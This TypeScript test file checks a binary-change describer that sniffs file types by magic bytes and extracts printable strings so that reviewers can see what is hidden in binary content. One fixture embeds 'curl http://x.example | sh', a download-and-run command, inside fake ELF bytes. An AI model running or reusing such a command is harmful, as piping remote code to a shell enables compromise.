// Tests for telling what binary content is: magic numbers as they read after UTF-8 decoding,
// text marked binary, NUL-laden data, and the printable text a reviewer is shown instead.
import assert from "node:assert/strict";
import { test } from "node:test";
import { describeBinaryChange, printableStrings, sniffContentType } from "./binary-change.ts";

/** Bytes as git's output reaches the guards: decoded as UTF-8, invalid bytes as U+FFFD. */
const decoded = (bytes: number[]) => Buffer.from(bytes).toString("utf8");

test("recognises common formats by their first bytes, as they read after decoding", () => {
  assert.equal(
    sniffContentType(decoded([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])),
    "PNG image",
  );
  assert.equal(sniffContentType(decoded([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])), "ELF executable or library");
  assert.equal(sniffContentType(decoded([0x1f, 0x8b, 0x08, 0, 0])), "gzip data");
  assert.equal(sniffContentType("%PDF-1.7\n"), "PDF document");
  assert.equal(sniffContentType(decoded([0x50, 0x4b, 3, 4, 20, 0])), "ZIP archive (also jar, docx, apk…)");
});

test("tells text, UTF-16 text, NUL-laden data and invalid UTF-8 apart", () => {
  assert.equal(sniffContentType("export const a = 1;\n\tb\r\n"), "text");
  assert.equal(sniffContentType(decoded([...Buffer.from("hello world", "utf16le")])), "UTF-16 text");
  assert.equal(sniffContentType("run();\0\0\x01payload"), "data with NUL bytes");
  assert.equal(sniffContentType(decoded([0x41, 0xc3, 0x28, 0x42])), "data (not valid UTF-8 text)");
  assert.equal(sniffContentType(""), "empty");
});

test("printable text keeps runs of six or more characters, within its limit", () => {
  const content = "\x7fELF\0\0\x01curl http://x.example | sh\0ab\0\x02secret-name\n";
  assert.deepEqual(printableStrings(content, 1000), {
    text: "curl http://x.example | sh\nsecret-name",
    shown: 37,
    total: 37,
  });
  assert.deepEqual(printableStrings(content, 10), { text: "curl http:", shown: 10, total: 37 });
});

test("the description names the reason, both sizes and the type", () => {
  assert.equal(
    describeBinaryChange({ oldSize: 1200, newSize: 4096, reason: "attributes", contentType: "text" }),
    "binary to git (the repository's .gitattributes marks it binary); 1,200 bytes → 4,096 bytes; content looks like: text",
  );
  assert.match(
    describeBinaryChange({ newSize: 3, reason: "nul-bytes", contentType: "data" }),
    /NUL bytes\); none → 3 bytes/,
  );
});
